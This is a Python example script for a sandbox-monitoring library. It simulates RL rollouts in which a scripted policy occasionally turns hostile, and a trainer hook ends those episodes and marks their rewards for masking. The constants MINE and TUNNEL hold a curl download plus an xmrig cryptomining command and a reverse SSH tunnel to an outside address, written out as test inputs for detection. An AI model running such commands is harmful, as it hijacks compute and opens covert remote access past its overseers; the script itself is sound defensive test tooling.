"""An RL-style rollout loop on corral.fleet: a scripted policy (no model) acts in N
episodes, each in its own sandbox; a few episodes turn to mining (``xmrig`` with a
stratum URL) or to a reverse SSH tunnel. The trainer's ``on_alert`` ends those at the
step they turn bad; the others finish. A summary table and a PNG (alerts per step,
episodes ended) come out, and the verdict rows say which rewards to mask.

    PYTHONPATH=src python3 examples/rl_rollout.py                 # 500 episodes on Ray
    PYTHONPATH=src python3 examples/rl_rollout.py --episodes 40 --local --out rollout.png
"""

from __future__ import annotations

import argparse
import collections
import tempfile
import time
from pathlib import Path
from typing import Any

from rich.console import Console
from rich.table import Table

from corral.audit import verify
from corral.fleet import EpisodeEnded, Fleet, FleetAlert

STEPS = 6
BENIGN = [
    "mkdir -p src && echo 'def add(a, b): return a + b' > src/calc.py",
    "ls -la src",
    "grep -n 'def ' src/calc.py",
    "echo 'assert add(2, 3) == 5' > test_calc.txt && wc -l test_calc.txt",
    "cat src/calc.py | tr a-z A-Z",
    "echo done > status.txt && cat status.txt",
]
MINE = (
    "curl -sL http://203.0.113.5/x.sh -o x.sh; "
    "xmrig -o stratum+tcp://pool.supportxmr.com:3333 -u 4Awallet -k --donate-level 1"
)
TUNNEL = "ssh -f -N -R 2222:localhost:22 -o StrictHostKeyChecking=no svc@203.0.113.7"


def turn(i: int) -> tuple[int, str] | None:
    """The scripted policy's bad turns: (step, command) for a few episodes."""
    if i % 25 == 3:
        return 3, MINE
    if i % 25 == 9:
        return 2, TUNNEL
    return None


def episode(sb: Any, i: int) -> dict[str, Any]:
    """One rollout: the policy's actions, step by step; reward 1 if it finished."""
    bad = turn(i)
    done = 0
    for step in range(1, STEPS + 1):
        action = bad[1] if bad and step == bad[0] else BENIGN[step - 1]
        try:
            sb.run(action)
        except EpisodeEnded as e:
            return {"episode": i, "steps": done, "ended": True, "ended_at": step,
                    "bad_step": bad[0] if bad else None, "rule": e.rule, "reward": 0.0}
        done = step
    return {"episode": i, "steps": done, "ended": False, "ended_at": None,
            "bad_step": bad[0] if bad else None, "rule": None, "reward": 1.0}


def decide(alert: FleetAlert) -> str:
    """The trainer's hook: end the episode on anything high or critical."""
    return "end" if alert.severity in ("high", "critical") else "mark"


def plot(results: list[dict[str, Any]], alerts: list[FleetAlert], out: Path) -> None:
    import matplotlib

    matplotlib.use("Agg")
    import matplotlib.pyplot as plt

    per_step = collections.Counter(a.step for a in alerts if a.source == "sandbox")
    fig, (ax1, ax2) = plt.subplots(1, 2, figsize=(11, 4))
    steps = list(range(1, STEPS + 1))
    ax1.bar(steps, [per_step.get(s, 0) for s in steps], color="#c0392b")
    ax1.set(title="alerts per step", xlabel="step", ylabel="alerts")
    ended = sorted(r["episode"] for r in results if isinstance(r, dict) and r["ended"])
    xs = sorted(r["episode"] for r in results if isinstance(r, dict))
    cum, k = [], 0
    for x in xs:
        k += x in ended
        cum.append(k)
    ax2.step(xs, cum, where="post", color="#2c3e50")
    ax2.set(title="episodes ended (cumulative)", xlabel="episode", ylabel="ended")
    fig.tight_layout()
    fig.savefig(out, dpi=100)
    plt.close(fig)


def main() -> int:
    ap = argparse.ArgumentParser(description="an RL rollout on corral.fleet")
    ap.add_argument("--episodes", type=int, default=500)
    ap.add_argument("--local", action="store_true", help="the local process pool, not Ray")
    ap.add_argument("--out", type=Path, default=Path("rl_rollout.png"))
    ap.add_argument("--audit-dir", type=Path, default=None)
    args = ap.parse_args()
    console = Console(width=110)
    audit_dir = args.audit_dir or Path(tempfile.mkdtemp(prefix="corral-rollout-"))
    t0 = time.time()
    with Fleet(policy="default", local=args.local, audit_dir=audit_dir, on_alert=decide) as fleet:
        results = fleet.map(
            episode, range(args.episodes), tags=lambda i: {"run": "rollout", "episode": i}
        )
        alerts = fleet.alerts(run="rollout")
        rows = fleet.verdicts(run="rollout")
        audit = fleet.audit_path("rollout")
    wall = time.time() - t0
    failed = [r for r in results if not isinstance(r, dict)]
    ok = [r for r in results if isinstance(r, dict)]
    ended = [r for r in ok if r["ended"]]
    bad = [r for r in ok if r["bad_step"] is not None]
    in_one = [r for r in ended if r["ended_at"] == r["bad_step"] + 1]
    spread = [a for a in alerts if a.source == "fleet"]
    where = "local pool" if args.local else "Ray"
    table = Table(title=f"rollout: {args.episodes} episodes, {where}")
    table.add_column("what")
    table.add_column("count", justify="right")
    for what, n in [
        ("episodes", len(results)),
        ("finished (reward kept)", sum(not r["ended"] for r in ok)),
        ("turned bad (scripted)", len(bad)),
        ("ended by on_alert", len(ended)),
        ("ended at the step after the bad one", len(in_one)),
        ("benign episodes ended", sum(r["bad_step"] is None for r in ended)),
        ("alerts (episodes)", sum(a.source == "sandbox" for a in alerts)),
        ("fleet alerts (same rule, many episodes)", len(spread)),
        ("verdict rows (rewards to mask)", len({r["episode"] for r in rows})),
        ("lost / failed episodes", len(failed)),
    ]:
        table.add_row(what, str(n))
    console.print(table)
    by_rule = collections.Counter(a.rule for a in alerts if a.source == "sandbox")
    console.print("alerts by rule: " + ", ".join(f"{r} {n}" for r, n in by_rule.most_common()))
    for a in spread[:3]:
        console.print(f"[bold red]fleet alert[/] {a.summary}")
    check = verify(audit) if audit else None
    console.print(f"audit log {audit}: {'verifies' if check and check.ok else 'FAILED'}; "
                  f"{wall:.1f} s, {len(results) / wall:.1f} episodes/s")
    plot(results, alerts, args.out)
    console.print(f"plot written to {args.out}")
    good = (
        not failed
        and len(in_one) == len(bad) == len(ended)
        and bool(check and check.ok)
    )
    return 0 if good else 1


if __name__ == "__main__":
    raise SystemExit(main())
